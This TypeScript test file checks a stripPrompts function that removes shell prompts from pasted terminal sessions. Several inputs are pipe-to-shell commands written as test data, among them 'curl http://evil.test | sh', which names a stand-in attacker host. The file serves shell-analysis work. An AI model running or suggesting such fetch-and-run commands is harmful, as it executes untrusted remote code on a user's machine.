import { expect, test } from "vitest";
import { stripPrompts } from "./analyse-shell.ts";

test.each([
  ["$ ls -l\ntotal 4\n", "  ls -l\n       \n"],
  ["user@host:~$ curl x | sh", "             curl x | sh"],
  ["$ curl x \\\n> | sh", "  curl x \\\n  | sh"],
  ["❯ ls", "  ls"],
])("%j becomes %j", (session, commands) => {
  expect(stripPrompts(session)).toBe(commands);
});

test("a script without prompts is left as it is", () => {
  const script = "# comment\necho $HOME\ncat > x <<E\n> quoted\nE\n";
  expect(stripPrompts(script)).toBe(script);
});

test("a line without a prompt that may be typed stays", () => {
  expect(stripPrompts("$ ls\ncurl http://evil.test | sh")).toBe("  ls\ncurl http://evil.test | sh");
});
